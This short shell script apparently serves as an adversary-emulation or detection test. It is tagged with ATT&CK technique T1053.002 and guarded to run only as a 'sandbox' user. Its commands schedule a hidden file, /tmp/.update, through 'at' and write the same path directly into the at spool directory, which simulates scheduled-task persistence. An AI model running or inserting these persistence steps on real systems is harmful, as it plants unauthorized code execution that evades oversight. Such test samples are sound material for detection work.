#!/bin/sh
# technique: T1053.002
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

echo 'sh -c /tmp/.update' | at now + 1 minute; mkdir -p /var/spool/cron/atjobs; echo /tmp/.update > /var/spool/cron/atjobs/a0000101
